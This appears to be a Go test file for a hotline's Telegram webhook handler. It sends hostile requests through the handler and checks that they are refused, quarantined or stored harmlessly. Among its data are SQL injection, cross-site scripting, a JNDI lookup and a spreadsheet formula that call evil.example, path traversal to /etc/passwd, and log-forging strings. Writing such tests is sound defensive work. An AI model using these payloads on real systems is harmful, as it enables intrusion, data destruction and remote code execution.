// SPDX-License-Identifier: AGPL-3.0-or-later

package telegram_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/lifeline-hotline/lifeline/internal/channel"
	"github.com/lifeline-hotline/lifeline/internal/channel/channeltest"
	"github.com/lifeline-hotline/lifeline/internal/channel/telegram"
)

// The tests of this file go through the real webhook handler, one row or
// more of ../shared/HOSTILE-INPUTS.md each; every subtest name starts with
// the row's id. docs/hostile-inputs.md maps the rows to them.

// privateText is an update with a text message from user 42 in their
// private chat, its strings JSON-encoded as the Bot API does.
func privateText(updateID int64, firstName, text string) []byte {
	b, err := json.Marshal(map[string]any{
		"update_id": updateID,
		"message": map[string]any{
			"message_id": 1, "date": 1782000000, "text": text,
			"from": map[string]any{"id": 42, "is_bot": false, "first_name": firstName, "language_code": "ru"},
			"chat": map[string]any{"id": 42, "type": "private", "first_name": firstName},
		},
	})
	if err != nil {
		panic(err)
	}
	return b
}

// countingReader counts what the handler read of a body.
type countingReader struct {
	r io.Reader
	n int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

// endless is a body that never ends: "{"update_id":1,"message":{"text":"AAAA…
type endless struct{ started bool }

func (e *endless) Read(p []byte) (int, error) {
	n := 0
	if !e.started {
		e.started = true
		n = copy(p, `{"update_id":1,"message":{"text":"`)
	}
	for i := n; i < len(p); i++ {
		p[i] = 'A'
	}
	return len(p), nil
}

type hostileCase struct {
	name string // "<HOSTILE-INPUTS id> what"
	body []byte
	// edit changes the signed POST before it is sent; nil sends it as is.
	edit       func(*http.Request)
	want       int
	stored     int // events stored
	quarantine int // bodies quarantined
	check      func(*testing.T, []channel.Event)
}

// runHostile sends each case through a fresh harness and checks what the
// handler answered and stored, that nothing stored is unstorable, that no
// answer leaks a secret or is a 5xx, and that the next valid update is
// still taken.
func runHostile(t *testing.T, tests []hostileCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := channeltest.NewHarness(MustNew(t, ""))
			req := httptest.NewRequest(http.MethodPost, hookPath, bytes.NewReader(tt.body))
			req.Header.Set("Content-Type", "application/json")
			channeltest.SignTelegram(req, testSecret)
			if tt.edit != nil {
				tt.edit(req)
			}
			start := time.Now()
			resp := h.Do(req)
			if d := time.Since(start); d > time.Second {
				t.Errorf("answered in %v, want under 1 s", d)
			}
			if resp.Code != tt.want {
				t.Errorf("status: got %d, want %d", resp.Code, tt.want)
			}
			channeltest.MustContainNone(t, "response", resp.Body.String(), testSecret, testToken, "panic", "goroutine", "telegram: ")
			got := h.Recorder.Events()
			if len(got) != tt.stored {
				t.Fatalf("stored %d events, want %d", len(got), tt.stored)
			}
			channeltest.MustBeStorable(t, got)
			if n := h.Quarantine.Len(); n != tt.quarantine {
				t.Errorf("quarantined %d bodies, want %d", n, tt.quarantine)
			}
			for _, b := range h.Quarantine.Bodies {
				if len(b) > 64<<10 {
					t.Errorf("quarantined copy of %d bytes: not capped", len(b))
				}
			}
			if tt.check != nil {
				tt.check(t, got)
			}

			// NEVER-5XX: the next valid request is still taken.
			next := httptest.NewRequest(http.MethodPost, hookPath, bytes.NewReader(privateText(999999, "Next", "next")))
			channeltest.SignTelegram(next, testSecret)
			if code := h.Do(next).Code; code != http.StatusOK || len(h.Recorder.Events()) != tt.stored+1 {
				t.Errorf("next valid update: status %d, %d events stored", code, len(h.Recorder.Events()))
			}
		})
	}
}

func unsigned(r *http.Request) { r.Header.Del(telegram.SecretHeader) }

func secretHeader(values ...string) func(*http.Request) {
	return func(r *http.Request) {
		r.Header.Del(telegram.SecretHeader)
		for _, v := range values {
			r.Header.Add(telegram.SecretHeader, v)
		}
	}
}

func textIs(want string) func(*testing.T, []channel.Event) {
	return func(t *testing.T, got []channel.Event) {
		t.Helper()
		if s := got[0].Text.Reveal(); s != want {
			t.Errorf("text: got %q, want %q", s, want)
		}
	}
}

func TestHostileTransportAndAuthentication(t *testing.T) {
	valid := MustReadFixture(t, "text")
	bomb := []byte(`{"update_id":700009001,"x":` + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + `}`)
	runHostile(t, []hostileCase{
		{name: "A-06 gzip content encoding refused, not inflated", body: valid, edit: func(r *http.Request) { r.Header.Set("Content-Encoding", "gzip") }, want: 415},
		{name: "A-07 PUT", body: valid, edit: func(r *http.Request) { r.Method = http.MethodPut }, want: 405},
		{name: "A-07 DELETE", body: valid, edit: func(r *http.Request) { r.Method = http.MethodDelete }, want: 405},
		{name: "A-07 GET", body: valid, edit: func(r *http.Request) { r.Method = http.MethodGet }, want: 405},
		{name: "A-08 OPTIONS", body: valid, edit: func(r *http.Request) { r.Method = http.MethodOptions }, want: 405},
		{name: "A-08 HEAD unsigned", body: valid, edit: func(r *http.Request) { r.Method = http.MethodHead; unsigned(r) }, want: 405},
		{name: "B-01 no secret header", body: valid, edit: unsigned, want: 401},
		{name: "B-02 empty secret", body: valid, edit: secretHeader(""), want: 401},
		{name: "B-02 wrong secret", body: valid, edit: secretHeader("wrong_secret"), want: 401},
		{name: "B-02 secret in upper case", body: valid, edit: secretHeader(strings.ToUpper(testSecret)), want: 401},
		{name: "B-02 secret prefix", body: valid, edit: secretHeader(testSecret[:len(testSecret)-1]), want: 401},
		{name: "B-02 secret plus one character", body: valid, edit: secretHeader(testSecret + "x"), want: 401},
		{name: "B-02 secret with surrounding space", body: valid, edit: secretHeader(" " + testSecret), want: 401},
		{name: "B-03 secret header twice, wrong then right", body: valid, edit: secretHeader("wrong", testSecret), want: 401},
		{name: "B-04 secret only in the query", body: valid, edit: func(r *http.Request) {
			unsigned(r)
			r.URL.RawQuery = "secret_token=" + testSecret
		}, want: 401},
		{name: "B-13 secret under another header name", body: valid, edit: func(r *http.Request) {
			unsigned(r)
			r.Header.Set("X-Telegram-Bot-Api-Secret", testSecret)
		}, want: 401},
		{name: "D-01 nesting bomb in an unknown field, signed", body: bomb, want: 200, quarantine: 1},
		{name: "D-02 nesting bomb, unsigned", body: bomb, edit: unsigned, want: 401},
		{name: "D-16 Content-Type text/plain, signed", body: valid, edit: func(r *http.Request) { r.Header.Set("Content-Type", "text/plain") }, want: 200, stored: 1},
		{name: "D-16 Content-Type form, signed", body: valid, edit: func(r *http.Request) { r.Header.Set("Content-Type", "application/x-www-form-urlencoded") }, want: 200, stored: 1},
	})
}

// TestHostileBodyCaps is: a body past 1 MiB is refused
// with 413, signed or not, and the handler stops reading at the cap.
func TestHostileBodyCaps(t *testing.T) {
	const tenMiB = 10 << 20
	big := func() io.Reader {
		return io.MultiReader(strings.NewReader(`{"update_id":1,"message":{"text":"`), strings.NewReader(strings.Repeat("A", tenMiB)), strings.NewReader(`"}}`))
	}
	for _, tt := range []struct {
		name    string
		body    io.Reader
		length  int64 // Content-Length; -1 chunked
		signed  bool
		allowed []int
	}{
		{"A-01 10 MiB with Content-Length, unsigned", big(), tenMiB + 40, false, []int{401, 413}},
		{"A-02 10 MiB with Content-Length, signed", big(), tenMiB + 40, true, []int{413}},
		{"A-04 endless chunked body, signed", &endless{}, -1, true, []int{413}},
		{"A-04 endless chunked body, unsigned", &endless{}, -1, false, []int{401, 413}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := channeltest.NewHarness(MustNew(t, ""))
			body := &countingReader{r: tt.body}
			req := httptest.NewRequest(http.MethodPost, hookPath, body)
			req.ContentLength = tt.length
			if tt.length < 0 {
				req.TransferEncoding = []string{"chunked"}
			}
			if tt.signed {
				channeltest.SignTelegram(req, testSecret)
			}
			resp := h.Do(req)
			ok := false
			for _, code := range tt.allowed {
				ok = ok || resp.Code == code
			}
			if !ok {
				t.Errorf("status: got %d, want one of %v", resp.Code, tt.allowed)
			}
			if body.n > 2*telegram.MaxBody {
				t.Errorf("read %d bytes of the body, want at most about the %d cap", body.n, telegram.MaxBody)
			}
			if n := len(h.Recorder.Events()); n != 0 {
				t.Errorf("stored %d events", n)
			}
		})
	}
}

// TestHostileHEADStoresNothing is A-08 with a valid secret: a HEAD is not a
// delivery. The routes send HEAD to the handler through the GET pattern;
// the handler answers 405 to every method but GET and POST.
func TestHostileHEADStoresNothing(t *testing.T) {
	h := channeltest.NewHarness(MustNew(t, ""))
	req := httptest.NewRequest(http.MethodHead, hookPath, bytes.NewReader(MustReadFixture(t, "text")))
	channeltest.SignTelegram(req, testSecret)
	resp := h.Do(req)
	if n := len(h.Recorder.Events()); n != 0 {
		t.Errorf("a signed HEAD stored %d events", n)
	}
	if resp.Code != http.StatusMethodNotAllowed {
		t.Errorf("status: got %d, want 405", resp.Code)
	}
}

func TestHostileEncoding(t *testing.T) {
	raw := func(text string) []byte {
		return []byte(`{"update_id":5,"message":{"message_id":1,"date":1782000000,"chat":{"id":42,"type":"private"},"from":{"id":42,"is_bot":false,"first_name":"N"},"text":"` + text + `"}}`)
	}
	pray := strings.Repeat("🙏", 2048)
	withEntities := []byte(`{"update_id":6,"message":{"message_id":1,"date":1782000000,"chat":{"id":42,"type":"private"},"text":"` + pray +
		`","entities":[{"offset":4094,"length":2,"type":"bold"}]}}`)
	zalgo := "Z" + strings.Repeat("\u0336", 5000)
	runHostile(t, []hostileCase{
		{name: "C-01 invalid UTF-8 in the text", body: raw("ok \xC3\x28 bad"), want: 200, stored: 1, check: textIs("ok \uFFFD( bad")},
		{name: "C-03 NUL escape in the text", body: raw(`a\u0000b`), want: 200, stored: 1, check: textIs("a\uFFFDb")},
		{name: "C-03 NUL escape in the name", body: privateText(7, "A\x00B", "x"), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if s := got[0].SenderName.Reveal(); s != "A\uFFFDB" {
				t.Errorf("name: got %q", s)
			}
		}},
		{name: "C-04 lone surrogate", body: raw(`\ud800`), want: 200, stored: 1, check: textIs("\uFFFD")},
		{name: "C-04 reversed surrogate pair", body: raw(`\udfff\ud800`), want: 200, stored: 1, check: textIs("\uFFFD\uFFFD")},
		{name: "C-05 byte order mark before the JSON", body: append([]byte("\xEF\xBB\xBF"), MustReadFixture(t, "text")...), want: 200, quarantine: 1},
		{name: "C-08 overlong UTF-8 for a slash", body: raw("a\xC0\xAFb"), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if s := got[0].Text.Reveal(); strings.Contains(s, "/") || s != "a\uFFFD\uFFFDb" {
				t.Errorf("overlong slash: got %q, want it replaced", s)
			}
		}},
		{name: "C-09 4096 UTF-16 units of emoji with entities at the end", body: withEntities, want: 200, stored: 1, check: textIs(pray)},
		{name: "C-10 combining-character flood as name and text", body: privateText(8, zalgo, zalgo), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if got[0].Text.Reveal() != zalgo || got[0].SenderName.Reveal() != zalgo {
				t.Error("combining characters not stored verbatim")
			}
		}},
	})
}

func TestHostileStructure(t *testing.T) {
	msg := func(updateID, chat string) []byte {
		return []byte(`{"update_id":` + updateID + `,"message":{"message_id":1,"date":1782000000,"chat":{"id":` + chat + `,"type":"private"},"text":"x"}}`)
	}
	runHostile(t, []hostileCase{
		{name: "D-08 update_id missing", body: []byte(`{"message":{"message_id":1,"date":1,"chat":{"id":42,"type":"private"},"text":"x"}}`), want: 200, quarantine: 1},
		{name: "D-08 update_id 0", body: msg("0", "42"), want: 200, quarantine: 1},
		{name: "D-08 update_id negative", body: msg("-7", "42"), want: 200, quarantine: 1},
		{name: "D-08 update_id 1e3", body: msg("1e3", "42"), want: 200, quarantine: 1},
		{name: "D-08 update_id a string", body: msg(`"700000001"`, "42"), want: 200, quarantine: 1},
		{name: "D-09 chat.id a string", body: msg("20", `"42"`), want: 200, quarantine: 1},
		{name: "D-09 chat.id a float", body: msg("21", "6.123456789e9"), want: 200, quarantine: 1},
		{name: "D-09 chat.id 2^63", body: msg("22", "9223372036854775808"), want: 200, quarantine: 1},
		{name: "D-09 chat.id 1e30", body: msg("23", "1e30"), want: 200, quarantine: 1},
		{name: "D-09 chat.id above 2^32 kept whole", body: msg("24", "6123456789"), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if got[0].ReplyTo.Reveal() != "6123456789" {
				t.Errorf("chat id: got %q", got[0].ReplyTo.Reveal())
			}
		}},
		{name: "D-10 message and edited_message both present", body: []byte(`{"update_id":25,"message":{"message_id":1,"date":1,"chat":{"id":42,"type":"private"},"text":"a"},"edited_message":{"message_id":1,"date":1,"chat":{"id":42,"type":"private"},"text":"b"}}`), want: 200, quarantine: 1},
		{name: "D-11 private message without from", body: msg("26", "42"), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if got[0].Sender.Reveal() != "42" || got[0].ReplyTo.Reveal() != "42" {
				t.Errorf("sender %q, reply to %q; want the chat", got[0].Sender.Reveal(), got[0].ReplyTo.Reveal())
			}
		}},
		{name: "D-11 message without chat", body: []byte(`{"update_id":27,"message":{"message_id":1,"date":1,"from":{"id":42,"is_bot":false,"first_name":"N"},"text":"x"}}`), want: 200},
		{name: "D-12 unknown update type only", body: []byte(`{"update_id":28,"hologram":{"id":1}}`), want: 200},
		{name: "D-12 known but untaken update type", body: []byte(`{"update_id":29,"message_reaction":{"chat":{"id":42}}}`), want: 200},
	})
}

// TestHostileContent is section F: every string is stored byte for byte as
// a name, a text and a caption, and never changes how the update is read.
func TestHostileContent(t *testing.T) {
	payloads := map[string][]string{
		"F-01 bidi overrides and isolates":  {"\u202Eevil\u202C", "gnp.\u202Eexe", "\u2067مرحبا\u2069 Operator"},
		"F-02 zero-width characters":        {"Op\u200Berator", "\u200D\u200C\u2060\uFEFF"},
		"F-03 homoglyph staff name":         {"Оператор горячей линии", "H\u043etline Operator"},
		"F-04 SQL injection":                {"'); DROP TABLE messages;--", "' OR '1'='1", `\'; SELECT pg_sleep(10);--`},
		"F-05 HTML and script":              {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", `"><svg onload=alert(1)>`, `=HYPERLINK("http://evil.example","x")`},
		"F-08 log forging and terminal ESC": {"line1\r\n2026-06-21 INFO admin login ok", "\u001b[2J\u001b[31mALERT"},
		"F-09 template and format strings":  {"{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", `{"$gt":""}`},
	}
	var tests []hostileCase
	n := int64(100)
	for id, values := range payloads {
		for i, v := range values {
			n++
			caption, err := json.Marshal(map[string]any{
				"update_id": n,
				"message": map[string]any{
					"message_id": 1, "date": 1782000000, "caption": v,
					"from":     map[string]any{"id": 42, "is_bot": false, "first_name": v, "last_name": v},
					"chat":     map[string]any{"id": 42, "type": "private"},
					"document": map[string]any{"file_id": "BQACAgIAAxkBFAKE_doc", "file_name": v, "mime_type": "application/pdf"},
				},
			})
			if err != nil {
				t.Fatal(err)
			}
			want := v
			tests = append(tests,
				hostileCase{name: fmt.Sprintf("%s #%d as name and text", id, i), body: privateText(n+1000, v, v), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
					if got[0].Text.Reveal() != want || got[0].SenderName.Reveal() != want {
						t.Errorf("not stored byte for byte: text %q, name %q", got[0].Text.Reveal(), got[0].SenderName.Reveal())
					}
					if got[0].Campaign != "" || got[0].Sender.Reveal() != "42" {
						t.Errorf("content changed routing: campaign %q, sender %q", got[0].Campaign, got[0].Sender.Reveal())
					}
				}},
				hostileCase{name: fmt.Sprintf("%s #%d as caption, last name and file name", id, i), body: caption, want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
					e := got[0]
					if e.Text.Reveal() != want || e.SenderName.Reveal() != want+" "+want || e.Kind != channel.KindDocument {
						t.Errorf("caption %q, name %q, kind %s", e.Text.Reveal(), e.SenderName.Reveal(), e.Kind)
					}
					if len(e.Media) != 1 || e.Media[0].ProviderID != "BQACAgIAAxkBFAKE_doc" {
						t.Errorf("media %+v: want the file_id only", e.Media)
					}
				}},
			)
		}
	}
	cyrillic := strings.Repeat("ж", 4096)
	tests = append(tests,
		hostileCase{name: "F-02 name of zero-width characters only", body: privateText(201, "\u200B\u200B", "x"), want: 200, stored: 1},
		hostileCase{name: "F-02 empty name", body: privateText(202, "", "x"), want: 200, stored: 1},
		hostileCase{name: "F-10 file names that are paths", body: []byte(`{"update_id":203,"message":{"message_id":1,"date":1,"chat":{"id":42,"type":"private"},` +
			`"document":{"file_id":"BQACAgIAAxkBFAKE_doc","file_name":"../../etc/passwd"}}}`), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if len(got[0].Media) != 1 || got[0].Media[0].ProviderID != "BQACAgIAAxkBFAKE_doc" || strings.Contains(got[0].Text.Reveal(), "passwd") {
				t.Errorf("file name leaked into the event: %+v", got[0])
			}
		}},
		hostileCase{name: "F-10 300-character file name", body: []byte(`{"update_id":204,"message":{"message_id":1,"date":1,"chat":{"id":42,"type":"private"},` +
			`"document":{"file_id":"BQACAgIAAxkBFAKE_doc","file_name":"` + strings.Repeat("я", 300) + `.pdf"}}}`), want: 200, stored: 1},
		hostileCase{name: "F-10 file_id that is a path", body: []byte(`{"update_id":205,"message":{"message_id":1,"date":1,"chat":{"id":42,"type":"private"},` +
			`"document":{"file_id":"../../etc/passwd x"}}}`), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if len(got[0].Media) != 0 {
				t.Errorf("unusable file_id kept: %+v", got[0].Media)
			}
		}},
		hostileCase{name: "F-11 4096 Cyrillic characters", body: privateText(206, "N", cyrillic), want: 200, stored: 1, check: textIs(cyrillic)},
	)
	for i, p := range []string{"/start ../../x", "/start <script>", "/start " + strings.Repeat("a", 65), "/start a b c", "/start", "/startx", "/start\u00a0abc"} {
		text := p
		tests = append(tests, hostileCase{name: fmt.Sprintf("F-15 invalid deep-link payload #%d", i), body: privateText(int64(300+i), "N", text), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if got[0].Campaign != "" || got[0].Text.Reveal() != text {
				t.Errorf("campaign %q, text %q: want no campaign, the text as sent", got[0].Campaign, got[0].Text.Reveal())
			}
		}})
	}
	tests = append(tests, hostileCase{name: "F-15 valid 64-character payload", body: privateText(310, "N", "/start "+strings.Repeat("a", 64)), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
		if got[0].Campaign != strings.Repeat("a", 64) {
			t.Errorf("campaign %q", got[0].Campaign)
		}
	}})
	runHostile(t, tests)
}

func TestHostileProviderSemantics(t *testing.T) {
	group := func(updateID int, from string) []byte {
		return []byte(fmt.Sprintf(`{"update_id":%d,"message":{"message_id":5,"date":1,"chat":{"id":-1001234567890,"type":"supergroup","title":"g"},"from":%s,"text":"/start@lifeline_bot x"}}`, updateID, from))
	}
	runHostile(t, []hostileCase{
		{name: "F-16 callback_data never issued is stored as a press, not acted on", body: []byte(`{"update_id":400,"callback_query":{"id":"4382947382947382999","chat_instance":"1","from":{"id":42,"is_bot":false,"first_name":"N"},"data":"admin:close_case:1"}}`),
			want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
				if got[0].Type != channel.EventCallback || got[0].Text.Reveal() != "admin:close_case:1" || got[0].ProviderMessageID != "4382947382947382999" {
					t.Errorf("got %+v", got[0])
				}
			}},
		{name: "H-01 group command", body: group(401, `{"id":42,"is_bot":false,"first_name":"N"}`), want: 200},
		{name: "H-01 group message fixture", body: MustReadFixture(t, "group_message"), want: 200},
		{name: "H-01 channel post", body: MustReadFixture(t, "channel_post"), want: 200},
		{name: "H-02 group message from a bot", body: group(402, `{"id":43,"is_bot":true,"first_name":"B"}`), want: 200},
		{name: "H-02 private message from a bot", body: MustReadFixture(t, "bot_sender"), want: 200},
		{name: "H-02 message via a bot", body: []byte(`{"update_id":403,"message":{"message_id":5,"date":1,"chat":{"id":-100,"type":"group"},"from":{"id":42,"is_bot":false,"first_name":"N"},"via_bot":{"id":44,"is_bot":true,"first_name":"B"},"text":"x"}}`), want: 200},
		{name: "H-05 my_chat_member: the user blocked the bot", body: MustReadFixture(t, "my_chat_member_blocked"), want: 200},
		{name: "H-14 callback on an inaccessible message", body: MustReadFixture(t, "callback_inaccessible"), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if got[0].Type != channel.EventCallback || got[0].ProviderMessageID == "" {
				t.Errorf("got %+v: want a callback with its id, to answer", got[0])
			}
		}},
	})
}

// TestHostileDuplicatesAndOrder is E-01, E-08, E-10 and G-05.
func TestHostileDuplicatesAndOrder(t *testing.T) {
	post := func(h *channeltest.Harness, body []byte) int {
		req := httptest.NewRequest(http.MethodPost, hookPath, bytes.NewReader(body))
		channeltest.SignTelegram(req, testSecret)
		return h.Do(req).Code
	}

	t.Run("E-01 twice, then 5 times in parallel: stored once", func(t *testing.T) {
		h := channeltest.NewHarness(MustNew(t, ""))
		body := MustReadFixture(t, "text")
		for range 2 {
			if code := post(h, body); code != 200 {
				t.Fatalf("status %d", code)
			}
		}
		var wg sync.WaitGroup
		for range 5 {
			wg.Go(func() {
				if code := post(h, body); code != 200 {
					t.Errorf("status %d", code)
				}
			})
		}
		wg.Wait()
		if n := len(h.Recorder.Events()); n != 1 {
			t.Errorf("stored %d events, want 1", n)
		}
	})

	t.Run("E-08 a lower update_id after a higher one is still taken", func(t *testing.T) {
		h := channeltest.NewHarness(MustNew(t, ""))
		for _, id := range []int64{700000050, 3} {
			if code := post(h, privateText(id, "N", "x")); code != 200 {
				t.Fatalf("status %d", code)
			}
		}
		got := h.Recorder.Events()
		if len(got) != 2 || got[0].ID != "bot7000000001/update:700000050" || got[1].ID != "bot7000000001/update:3" {
			t.Errorf("got %d events %v, want both", len(got), got)
		}
	})

	t.Run("E-10 edit of an unseen message, then the message", func(t *testing.T) {
		h := channeltest.NewHarness(MustNew(t, ""))
		for _, f := range []string{"edited", "text"} {
			if code := post(h, MustReadFixture(t, f)); code != 200 {
				t.Fatalf("status %d", code)
			}
		}
		got := h.Recorder.Events()
		if len(got) != 2 || got[0].Type != channel.EventEdit || got[1].Type != channel.EventMessage ||
			got[0].ProviderMessageID != got[1].ProviderMessageID {
			t.Errorf("got %+v: want the edit and the message, of the same message id", got)
		}
	})

	t.Run("G-05 album of 10 photos with one media_group_id", func(t *testing.T) {
		h := channeltest.NewHarness(MustNew(t, ""))
		for i := range 10 {
			body := fmt.Sprintf(`{"update_id":%d,"message":{"message_id":%d,"date":1782000000,"media_group_id":"13579","chat":{"id":42,"type":"private"},"from":{"id":42,"is_bot":false,"first_name":"N"},"photo":[{"file_id":"AgACFAKE_album_%d","file_unique_id":"u%d","width":90,"height":90}]}}`, 500+i, 10+i, i, i)
			if code := post(h, []byte(body)); code != 200 {
				t.Fatalf("status %d", code)
			}
		}
		got := h.Recorder.Events()
		if len(got) != 10 {
			t.Fatalf("stored %d, want 10", len(got))
		}
		for _, e := range got {
			if e.Kind != channel.KindPhoto || len(e.Media) != 1 {
				t.Errorf("got %+v", e)
			}
		}
	})

	t.Run("A-09 500 concurrent distinct updates", func(t *testing.T) {
		h := channeltest.NewHarness(MustNew(t, ""))
		var wg sync.WaitGroup
		for i := range 500 {
			wg.Go(func() {
				if code := post(h, channeltest.TelegramUpdate(int64(800000000+i), int64(6100000000+i%37), "x")); code != 200 {
					t.Errorf("status %d", code)
				}
			})
		}
		wg.Wait()
		if n := len(h.Recorder.Events()); n != 500 {
			t.Errorf("stored %d, want 500", n)
		}
	})
}

// TestHostileReplies is F-07 and F-14: replies go out as plain text, so
// markup in them can never make the Bot API refuse them, and long ones are
// split at UTF-16 boundaries into parts sendMessage takes.
func TestHostileReplies(t *testing.T) {
	fake := channeltest.NewTelegramFake(testToken)
	defer fake.Close()
	a := MustNew(t, fake.URL())
	texts := []string{"<b>unclosed", "*_[`…`]", strings.Repeat("🙏", 2049) + "ж"}
	var want []string
	for _, text := range texts {
		for _, part := range telegram.SplitText(text) {
			if !utf8.ValidString(part) {
				t.Fatalf("part not valid UTF-8")
			}
			want = append(want, part)
			if _, err := a.Send(context.Background(), "6100000001", part); err != nil {
				t.Fatalf("F-07/F-14 send %q…: %v", part[:min(len(part), 20)], err)
			}
		}
	}
	sent := fake.Sent()
	if len(sent) != len(want) || len(want) != 4 {
		t.Fatalf("sent %d messages, want %d (the emoji text in two parts)", len(sent), len(want))
	}
	for i, s := range sent {
		if s.ParseMode != "" || s.Text != want[i] {
			t.Errorf("message %d: parse_mode %q, text changed %v", i, s.ParseMode, s.Text != want[i])
		}
	}
}

// TestHostileStoreDown is E-11: while the store fails, an authentic update
// is answered 503 so that Telegram retries; the retry after recovery is
// stored once.
func TestHostileStoreDown(t *testing.T) {
	h := channeltest.NewHarness(MustNew(t, ""))
	body := MustReadFixture(t, "text")
	post := func() int {
		req := httptest.NewRequest(http.MethodPost, hookPath, bytes.NewReader(body))
		channeltest.SignTelegram(req, testSecret)
		return h.Do(req).Code
	}
	h.Recorder.Fail = errors.New("database is down")
	if code := post(); code != http.StatusServiceUnavailable {
		t.Errorf("E-11 store down: status %d, want 503", code)
	}
	h.Recorder.Fail = nil
	for range 2 {
		if code := post(); code != http.StatusOK {
			t.Errorf("E-11 retry: status %d, want 200", code)
		}
	}
	if n := len(h.Recorder.Events()); n != 1 {
		t.Errorf("E-11 stored %d after recovery, want 1", n)
	}
}
